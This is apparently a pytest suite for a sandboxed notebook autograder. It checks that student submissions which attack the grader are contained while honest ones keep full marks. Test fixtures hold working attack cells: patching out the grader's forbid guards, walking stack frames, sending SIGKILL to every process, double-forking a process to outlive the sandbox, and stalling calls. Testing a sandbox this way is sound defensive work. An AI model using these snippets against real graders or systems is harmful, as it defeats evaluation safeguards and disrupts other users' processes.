                "    return (x > 0).to(x.dtype)\n")


def points_without(*questions: str) -> float:
    return FULL - sum(question_points(ASSIGNMENT)[q] for q in questions)


# While a thread of the notebook's runs or a forward-AD level is open, no function with forbidden
# APIs is called (each such case says why): only gradient_check (q8, nothing forbidden) scores.
ALONE = points_without("q1", "q2", "q3", "q4", "q5", "q6", "q7")


@pytest.fixture(scope="module")
def sealing(tmp_path_factory):
    """Classes 1 and 2 of issue 17 and the honest curiosity of issue 16, in one batch."""
    root = tmp_path_factory.mktemp("sealing")
    autograd = {"relu_grad": AUTOGRAD_RELU, "sigmoid_grad": AUTOGRAD_SIGMOID, "mse_grad": AUTOGRAD_MSE}
    cases = {
        # name: (replaced functions, extra cells, expected score)
        "honest": ({}, [], FULL),
        "autograd_without_patch": (autograd, [], points_without("q3", "q4", "q5")),
        "patch_forbid_and_expand": (autograd, ["""
import sys, contextlib
import calc4ml_runtime.guards as guards, calc4ml_runtime.calls as calls
for module in (guards, calls):
    module.forbid = lambda apis, message: contextlib.nullcontext()
guards.expand = lambda apis: []
guards._forbidden.clear()
for name in ('__main__', 'course.grade.worker'):
    if name in sys.modules:
        sys.modules[name]._answer = sys.modules[name].__dict__.get('_outputs')
raise RuntimeError("ATTACK patched runtime.forbid and runtime.expand")
"""], points_without("q3", "q4", "q5")),
        "thread_runs_the_engine_later": ({"relu_grad": "def relu_grad(x):\n    inbox.put(x)\n    return outbox.get()\n"},
                                         [ENGINE_RELU], ALONE),
        "open_dual_level": ({"relu_grad": DUAL_RELU}, ["import torch.autograd.forward_ad as fw\nfw.dual_level().__enter__()\n"
                                                       "raise RuntimeError('ATTACK dual level left open')"],
                            ALONE),
        "frame_walk": ({"sigmoid_grad": FRAME_WALK + "def sigmoid_grad(x):\n    print(walk())\n"
                        "    return torch.sigmoid(x) * torch.sigmoid(-x)\n"},
                       [FRAME_WALK + "raise RuntimeError('ATTACK ' + walk())"], FULL),
        "curious": ({"relu_grad": CURIOUS_RELU}, [CURIOUS_CELL], FULL),
    }
    for name, (replaced, cells, _) in cases.items():
        make_submission(ASSIGNMENT, replaced, root / "submissions", name, cells)
    results = course_grade(ASSIGNMENT, root / "submissions", root / "graded", limits=LIMITS)
    return results, {name: spec[2] for name, spec in cases.items()}, root / "graded"


@pytest.mark.parametrize("name", ["honest", "autograd_without_patch", "patch_forbid_and_expand",
                                  "thread_runs_the_engine_later", "open_dual_level", "frame_walk", "curious"])
def test_sealed_grader_scores_exactly_the_honest_work(sealing, name):
    results, expected, _ = sealing
    assert results[name].score == expected[name], (results[name].status, [c.message for c in results[name].cases])


@pytest.mark.parametrize("name, proof, message", [
    ("patch_forbid_and_expand", "ATTACK patched runtime.forbid", "it called torch."),
    ("thread_runs_the_engine_later", "ATTACK helper thread started", "a thread the notebook started is still running"),
    ("open_dual_level", "ATTACK dual level left open", "a forward-mode AD level is still open"),
])
def test_a_switched_off_guard_still_forbids(sealing, name, proof, message):
    """The attack ran (its marker), and the forbidden function's cases say why they score 0."""
    result = sealing[0][name]
    assert proof in marker(result), marker(result)
    relu = [c.message for c in result.cases if c.question == "q3"]
    assert relu and all(message in m for m in relu), relu


def test_no_frame_of_the_grader_is_reachable_and_protections_are_sealed(sealing):
    results, _, graded = sealing
    walk = marker(results["frame_walk"])
    assert "ATTACK grader names seen: [], forged: 0" in walk, walk
    assert str(results["curious"].status) == "ok" and str(results["honest"].status) == "ok"
    import csv
    rows = list(csv.DictReader(open(graded / "gradebook.csv", encoding="utf-8")))
    assert rows and all(row["protections missing"] == "" for row in rows), [r["protections missing"] for r in rows]
    assert "forged" not in (graded / "report.html").read_text(encoding="utf-8")


def test_curiosity_is_free(sealing):
    """help() on a guard shows the original's doc and signature; inspect, cProfile, gc.collect,
    tracebacks, logging and warnings run, in cells and in graded calls, at full marks."""
    result = sealing[0]["curious"]
    assert result.score == FULL and not any("cell" in line and "Error" in line for line in result.log), result.log


# --- 8 (issue 17): weaker kernels, emulated -------------------------------------------------

KILL_ALL = """import os, signal
seen = []
for target in (-1, 1):
    try:
        os.kill(target, signal.SIGKILL)
        seen.append("sent")
    except OSError as error:
        seen.append(error.strerror)
raise RuntimeError(f"ATTACK kill: {seen}")
"""
OUTLIVE = """import os, time
if os.fork() == 0:
    if os.fork() == 0:
        os.execv("/bin/sleep", ["sleep", "4242.5"])
    os._exit(0)
time.sleep(0.5)
raise RuntimeError("ATTACK double-forked a sleep")
"""


def weaker_kernel(tmp_path_factory, switch: str, cases: dict[str, tuple]) -> dict:
    root = tmp_path_factory.mktemp("weaker")
    for name, (replaced, cells) in cases.items():
        make_submission(ASSIGNMENT, replaced, root / "submissions", name, cells)
    started: list[int] = []
    with pytest.MonkeyPatch.context() as patch:
        patch.setenv("COURSE_TEST_WEAKER_KERNEL", switch)
        launch = pool.Worker.launch

        def recording_launch(self, limits):
            process = launch(self, limits)
            started.append(process.pid)
            return process

        patch.setattr(pool.Worker, "launch", recording_launch)
        results = course_grade(ASSIGNMENT, root / "submissions", root / "graded", limits=LIMITS)
    return {"results": results, "leftovers": [pid for pid in started if pool.running(pid)]}


def sleepers() -> list[int]:
    found = []
    for entry in Path("/proc").iterdir():
        try:
            if entry.name.isdigit() and (entry / "cmdline").read_bytes() == b"sleep\0" + b"4242.5\0":
                found.append(int(entry.name))
        except OSError:
            pass
    return found


@pytest.mark.skipif(os.getuid() != 0, reason="the emulation of an ordinary user starts as root")
def test_an_ordinary_user_on_landlock_5_keeps_signals_to_itself(tmp_path_factory):
    """Every student process as one ordinary uid, Landlock without signal scoping (ABI 5): each
    is the first process of a PID namespace of its own, so SIGKILL to every pid reaches only its
    own descendants; its neighbours keep full marks, and the sandbox says how it confined them."""
    batch = weaker_kernel(tmp_path_factory, "landlock=5,user=65534",
                          {"honest": ({}, []), "killer": (None, [KILL_ALL]), "honest_too": ({}, [])})
    results = batch["results"]
    assert results["honest"].score == FULL and results["honest_too"].score == FULL
    assert results["killer"].score == 0 and "ATTACK kill:" in marker(results["killer"]), marker(results["killer"])
    log = results["honest"].log
    assert "Landlock ABI 5: reads, writes, TCP confined" in log, log
    assert "signals: only to its own descendants (a PID namespace of its own)" in log, log
    assert not any(line.startswith("NO ") for line in log), log
    assert batch["leftovers"] == []


@pytest.mark.skipif(os.getuid() != 0, reason="the emulation of an ordinary user starts as root")
def test_without_user_namespaces_the_missing_signal_confinement_is_reported(tmp_path_factory):
    batch = weaker_kernel(tmp_path_factory, "landlock=5,user=65534,userns=0", {"honest": ({}, [])})
    result = batch["results"]["honest"]
    assert result.score == FULL, (result.status, result.detail, result.log)
    assert any(line.startswith("NO signals not confined") for line in result.log), result.log
    assert any(line.startswith("NO namespaces") for line in result.log), result.log


@pytest.mark.skipif(os.getuid() != 0, reason="a PID namespace without seccomp needs root here")
def test_without_seccomp_no_descendant_outlives_the_batch(tmp_path_factory):
    assert sleepers() == []
    batch = weaker_kernel(tmp_path_factory, "seccomp=0", {"outlive": ({}, [OUTLIVE]), "honest": ({}, [])})
    results = batch["results"]
    assert "ATTACK double-forked a sleep" in marker(results["outlive"]), marker(results["outlive"])
    assert results["outlive"].score == FULL and results["honest"].score == FULL
    log = results["honest"].log
    assert "NO seccomp (not available): new processes and sockets allowed" in log, log
    assert "descendants: killed with it (first process of its PID namespace)" in log, log
    deadline = time.monotonic() + 5
    while sleepers() and time.monotonic() < deadline:
        time.sleep(0.05)
    assert sleepers() == [] and batch["leftovers"] == []


# --- 9. time: calls that each stop just short of the call timeout -------------------------------

SLEEP = 2.0  # under LIMITS.call_seconds: no single call times out
BUDGET = 15.0  # honest neighbours need a few seconds, on a busy machine more


@pytest.fixture(scope="module")
def sleepy_batch(tmp_path_factory):
    """Every function right, each call sleeping just under the call timeout, next to honest ones."""
    root = tmp_path_factory.mktemp("sleepy_batch")
    functions = sorted({fn for q in source_of(ASSIGNMENT).plan()["questions"] for fn in q["functions"]})
    wrap = textwrap.dedent(f"""
        import functools, time
        for _name in {functions!r}:
            globals()[_name] = (lambda f: functools.wraps(f)(lambda *a, **k: (time.sleep({SLEEP}), f(*a, **k))[1]))(
                globals()[_name])
    """)
    make_submission(ASSIGNMENT, {}, root / "submissions", "sleepy", [wrap])
    make_submission(ASSIGNMENT, {}, root / "submissions", "honest")
    make_submission(ASSIGNMENT, {}, root / "submissions", "honest_too")
    limits = Limits(notebook_seconds=8, call_seconds=3, memory_mb=3072, budget_seconds=BUDGET)
    return course_grade(ASSIGNMENT, root / "submissions", root / "graded", limits=limits)


def test_sleepy_calls_are_bounded_and_gain_nothing_past_the_budget(sleepy_batch):
    sleepy = sleepy_batch["sleepy"]
    # not a sleep per case (the seconds include the worker's warm-up, which the budget does not count)
    assert sleepy.seconds < len(sleepy.cases) * SLEEP, sleepy.seconds
    assert str(sleepy.status) == "timeout" and "time budget of the notebook" in sleepy.detail
    judged = [c for c in sleepy.cases if "time budget" not in c.message]
    cut = [c for c in sleepy.cases if "time budget" in c.message]
    assert sleepy.cases[:len(judged)] == judged, "every case after the budget ran out is cut"
    assert 1 <= len(judged) <= BUDGET // SLEEP + 1 and all(c.points == 0 for c in cut) and cut
    assert sleepy.score == sum(c.points for c in judged) < FULL
    assert all(c.passed for c in judged[:-1])  # right answers given in time keep their points
    for name in ("honest", "honest_too"):
        assert sleepy_batch[name].score == FULL and str(sleepy_batch[name].status) == "ok"
